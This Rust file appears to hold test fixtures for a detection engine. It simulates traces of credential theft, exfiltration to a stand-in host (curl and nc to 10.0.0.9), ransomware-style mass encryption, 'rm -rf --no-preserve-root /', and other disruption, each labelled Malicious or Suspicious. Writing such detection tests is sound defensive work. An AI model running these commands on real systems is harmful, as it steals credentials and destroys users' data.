//! What is looked for, taken or destroyed.

use types::Kind;

use super::Expect::{Malicious, Suspicious};
use super::{Row, runs, shell};
use crate::trace::{
    EACCES, ENOENT, ROOT, append, changed, connect, http, limit, open_new, random, read, rename,
    unlink, update, write,
};

fn documents() -> impl Iterator<Item = (u32, String)> {
    (0..12).map(|n| (n, format!("/data/documents/minutes-{n}.txt")))
}

pub(super) const CREDENTIALS: &[Row] = &[
    ("shadow-read", Suspicious, |t| {
        let cat = t.command(ROOT, "cat /etc/shadow");
        t.failed(cat, read("/etc/shadow"), ENOENT);
    }),
    ("shadow-read", Suspicious, |t| t.failed(ROOT, read("/proc/self/root/etc/./shadow"), EACCES)),
    ("private-key-read", Suspicious, |t| {
        let cat = t.command(ROOT, "cat /home/sandbox/.ssh/id_rsa");
        t.failed(cat, read("/home/sandbox/.ssh/id_rsa"), ENOENT);
    }),
    ("credential-files", Suspicious, |t| {
        for store in [".netrc", ".docker/config.json", ".kube/config", ".pypirc"] {
            t.failed(ROOT, read(&format!("/home/sandbox/{store}")), ENOENT);
        }
    }),
    ("credential-files", Suspicious, |t| {
        t.failed(ROOT, read("/root/.aws/credentials"), ENOENT);
    }),
    ("browser-credentials", Suspicious, |t| {
        t.failed(ROOT, read("/home/a/.config/google-chrome/Default/Login Data"), ENOENT);
    }),
    ("history-read", Suspicious, |t| t.failed(ROOT, read("/root/.bash_history"), ENOENT)),
    ("process-secrets", Suspicious, |t| {
        t.failed(ROOT, read("/proc/1/mem"), EACCES);
    }),
    ("process-secrets", Suspicious, |t| {
        for pid in [1, 7, 9] {
            t.event(ROOT, read(&format!("/proc/{pid}/environ")));
        }
    }),
    ("service-account-token", Suspicious, |t| {
        t.failed(ROOT, read("/var/run/secrets/kubernetes.io/serviceaccount/token"), ENOENT);
    }),
    ("cloud-metadata", Suspicious, |t| t.failed(ROOT, connect("169.254.169.254", 80), -101)),
    ("cloud-metadata", Suspicious, |t| runs(t, "curl -s http://169.254.169.254/latest/")),
    ("credential-search", Suspicious, |t| runs(t, "find / -name id_rsa")),
    ("credential-search", Suspicious, |t| runs(t, "grep -ri password /etc /home")),
];

pub(super) const RANSOM: &[Row] = &[
    ("mass-encryption", Malicious, |t| {
        for (n, path) in documents() {
            t.event(ROOT, update(&path));
            t.event(ROOT, write(&path, &random(n)));
        }
    }),
    ("mass-encryption", Malicious, |t| {
        for (n, path) in documents() {
            t.event(ROOT, update(&path));
            t.event(ROOT, write(&path, &random(n)));
            t.event(ROOT, rename(&path, &format!("{path}.crypted")));
        }
    }),
    ("mass-encryption", Malicious, |t| {
        for (n, path) in documents() {
            t.writes(ROOT, &format!("{path}.locked"), &random(n));
            t.event(ROOT, unlink(&path));
        }
    }),
    // A cipher too simple to look random: the text is gone all the same.
    ("mass-encryption", Malicious, |t| {
        for (_, path) in documents() {
            let text = b"Minutes of meeting: everyone agreed with everyone. Then lunch was had.";
            let veiled: Vec<u8> = text.iter().map(|b| b ^ 0xa5).collect();
            t.event(ROOT, update(&path));
            t.event(ROOT, write(&path, &veiled));
        }
    }),
    // Encoded as text, by tools of the system.
    ("mass-encryption", Malicious, |t| {
        for (_, path) in documents() {
            let base64 = t.command(ROOT, "base64 -w0");
            t.writes(
                base64,
                &format!("{path}.b64x"),
                &[b'A'; 40]
                    .repeat(2)
                    .iter()
                    .enumerate()
                    .map(|(n, b)| b + u8::try_from(n % 20).unwrap())
                    .collect::<Vec<u8>>(),
            );
            t.event(ROOT, unlink(&path));
        }
    }),
    ("mass-encryption", Suspicious, |t| {
        runs(t, "zip -P secret -r all.zip .");
        for (_, path) in documents() {
            t.event(ROOT, unlink(&path));
        }
        for (_, path) in documents() {
            t.event(ROOT, changed(&path, "deleted", 0, None));
        }
    }),
    // Tier C sees no writes; what is left behind tells.
    ("mass-encryption", Malicious, |t| {
        for (_, path) in documents() {
            t.event(ROOT, rename(&path, &format!("{path}.enc1")));
        }
        for (_, path) in documents() {
            t.event(ROOT, changed(&format!("{path}.enc1"), "created", 0o644, Some(7_970)));
        }
    }),
    ("mass-encryption", Suspicious, |t| {
        for (_, path) in documents() {
            t.event(ROOT, append(&path));
            t.event(ROOT, rename(&path, &format!("{path}.zzz")));
        }
    }),
    ("ransom-note", Suspicious, |t| t.writes(ROOT, "/data/HOW_TO_RECOVER_FILES.txt", b"Pay up")),
    ("mass-destruction", Suspicious, |t| {
        for (_, path) in documents() {
            t.event(ROOT, update(&path));
            t.event(ROOT, write(&path, &[0; 64]));
        }
    }),
    ("mass-destruction", Suspicious, |t| runs(t, "rm -rf --no-preserve-root /")),
    ("mass-destruction", Suspicious, |t| {
        for n in 0..12 {
            t.failed(ROOT, unlink(&format!("/etc/thing-{n}")), EACCES);
        }
    }),
];

pub(super) const DISCOVERY: &[Row] = &[
    ("security-software-search", Suspicious, |t| {
        let script = shell(t, "true");
        t.pipeline(script, &["ps aux", "grep -E falcon|osquery|auditd"]);
    }),
    ("discovery-burst", Suspicious, |t| {
        let script = shell(t, "true");
        for line in ["whoami", "uname -a", "ps aux", "cat /etc/passwd", "ls /home", "sudo -l", "w"]
        {
            t.command(script, line);
        }
    }),
    ("sandbox-checks", Suspicious, |t| {
        t.event(ROOT, read("/sys/class/dmi/id/product_name"));
        t.failed(ROOT, read("/.dockerenv"), ENOENT);
    }),
];

pub(super) const COLLECTION: &[Row] = &[
    ("key-logging", Suspicious, |t| t.failed(ROOT, read("/dev/input/event0"), ENOENT)),
    ("screen-capture", Suspicious, |t| t.failed(ROOT, read("/dev/fb0"), ENOENT)),
    ("audio-capture", Suspicious, |t| runs(t, "arecord -d 10 x.wav")),
    ("video-capture", Suspicious, |t| t.failed(ROOT, update("/dev/video0"), ENOENT)),
    ("clipboard-read", Suspicious, |t| runs(t, "xclip -o")),
    ("sensitive-upload", Suspicious, |t| runs(t, "curl -F file=@/etc/passwd http://10.0.0.9/")),
    ("sensitive-upload", Suspicious, |t| {
        let script = shell(t, "true");
        t.pipeline(script, &["tar cz /home/sandbox/.ssh", "nc 10.0.0.9 9999"]);
    }),
    ("read-and-send", Suspicious, |t| {
        t.event(ROOT, read("/home/a/.aws/credentials"));
        t.failed(ROOT, connect("10.0.0.9", 443), -101);
    }),
    ("drop-site", Suspicious, |t| runs(t, "curl https://transfer.sh/x")),
];

pub(super) const DECOYS: &[Row] = &[
    ("decoys-gathered", Suspicious, |t| {
        plant(t);
        for decoy in [".aws/credentials", ".ssh/id_ed25519", ".kube/config"] {
            t.event(ROOT, read(&format!("/home/sandbox/{decoy}")));
        }
    }),
    ("decoys-taken-out", Suspicious, |t| {
        plant(t);
        let tar = t.command(ROOT, "tar cz /home/sandbox");
        for decoy in PLANTED {
            t.event(tar, read(&format!("/home/sandbox/{decoy}")));
        }
        let curl = t.command(ROOT, "curl -T x http://10.0.0.9/");
        t.event(curl, http("10.0.0.9", "PUT /x HTTP/1.1", b"noise"));
    }),
    ("mass-encryption", Malicious, |t| {
        plant(t);
        for decoy in PLANTED.iter().filter(|name| name.starts_with("Documents/")) {
            let path = format!("/home/sandbox/{decoy}");
            t.event(ROOT, update(&path));
            t.event(ROOT, write(&path, &random(9)));
            t.event(ROOT, rename(&path, &format!("{path}.locked")));
        }
    }),
    ("mass-destruction", Suspicious, |t| {
        plant(t);
        let rm = t.command(ROOT, "rm -rf /home/sandbox/Documents /home/sandbox/.aws");
        for decoy in PLANTED {
            t.event(rm, unlink(&format!("/home/sandbox/{decoy}")));
        }
    }),
];

const PLANTED: [&str; 7] = [
    ".aws/credentials",
    ".ssh/id_ed25519",
    ".kube/config",
    "Documents/a.txt",
    "Documents/b.docx",
    "Documents/c.pdf",
    "Documents/d.xlsx",
];

fn plant(trace: &mut crate::trace::Trace) {
    let paths = PLANTED.iter().map(|name| format!("/home/sandbox/{name}").as_str().into());
    trace.recording.run.decoys = paths.collect();
}

pub(super) const DISRUPTION: &[Row] = &[
    ("shutdown", Suspicious, |t| t.failed(ROOT, open_new("/proc/sysrq-trigger"), EACCES)),
    ("resource-exhaustion", Suspicious, |t| {
        t.event(ROOT, limit("pids"));
    }),
    ("resource-exhaustion", Suspicious, |t| {
        let children: Vec<u32> = (0..320).map(|_| t.fork(ROOT)).collect();
        children.into_iter().for_each(|child| t.exit(child));
    }),
    ("mass-kill", Suspicious, |t| {
        t.event(ROOT, Kind::Kill { target_pid: -1, signal: 9 });
    }),
    ("mass-kill", Suspicious, |t| runs(t, "systemctl stop mysql")),
    ("shutdown", Suspicious, |t| runs(t, "shutdown -h now")),
    ("recovery-inhibited", Suspicious, |t| {
        t.failed(ROOT, unlink("/var/backups/dpkg.status"), EACCES)
    }),
];
